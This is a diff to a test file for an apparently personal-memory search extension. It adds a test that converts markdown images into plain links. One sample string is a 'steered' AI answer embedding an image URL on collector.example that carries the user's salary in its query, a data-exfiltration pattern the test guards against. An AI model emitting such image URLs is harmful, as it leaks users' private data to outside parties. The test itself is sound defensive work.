@@ -5,7 +5,9 @@ import { describe, expect, it } from "vitest";
 import { answerMarkdown } from "../src/helpers/answer-markdown.ts";
 import { configFromPreferences } from "../src/helpers/config.ts";
 import { memoryLink } from "../src/helpers/deeplink.ts";
-import { age, firstLine, foundBy, parseTags, urlsIn } from "../src/helpers/format.ts";
+import { age, firstLine, foundBy, imagesAsLinks, parseTags, urlsIn } from "../src/helpers/format.ts";
+import { memoryMarkdown } from "../src/components/MemoryDetail.tsx";
+import type { Memory } from "../src/hooks/useMemorySearch.ts";
 import { pickText } from "../src/helpers/text-source.ts";
 
 const mac = { assetsPath: "/ext/assets", platform: "darwin" as const, arch: "arm64", env: {} };
@@ -67,6 +69,7 @@ describe("what the list and the answer show", () => {
     expect(age("2026-03-01T12:00:00Z", now)).toBe("1w");
     expect(foundBy({ keyword: 2 })).toBe("keyword #2");
     expect(foundBy({ keyword: 1, semantic: 4 })).toBe("keyword #1 · meaning #4");
+    expect(foundBy({ listed: 3 })).toBe("listed #3");
     expect(firstLine("a short line\nsecond")).toBe("a short line");
     expect(firstLine("word ".repeat(30), 20)).toBe("word word word…");
     expect(parseTags("#work, ideas  #later")).toEqual(["work", "ideas", "later"]);
@@ -92,6 +95,24 @@ describe("what the list and the answer show", () => {
     };
     expect(decodeURIComponent(memoryLink(42))).toBe(
       `raycast://extensions/${author}/local-brain/search-brain?context={"entryId":42}`,
+    );
+  });
+
+  it("shows no image a view would fetch by itself: an answer's, a memory's and a digest's images are links", () => {
+    const steered = "Done. ![](https://collector.example/?d=my%20salary%20is%20250k)";
+    const answer = answerMarkdown({
+      question: "salary?",
+      answer: steered,
+      sources: [{ n: 1, id: 42, text: "chart ![plot](https://img.example/p.png) of pay" }],
+      notices: [],
+      done: true,
+    });
+    expect(answer).toContain("Done. [image: ](https://collector.example/?d=my%20salary%20is%20250k)");
+    expect(answer).not.toContain("![");
+    const memory = memoryMarkdown({ text: "see ![plot][p]\n\n[p]: https://img.example/p.png" } as Memory);
+    expect(memory).toBe("see [image: plot][p]\n\n[p]: https://img.example/p.png");
+    expect(imagesAsLinks("a ![x](https://a.example/x.png) and ![y](y.png)")).toBe(
+      "a [image: x](https://a.example/x.png) and [image: y](y.png)",
     );
   });
 });
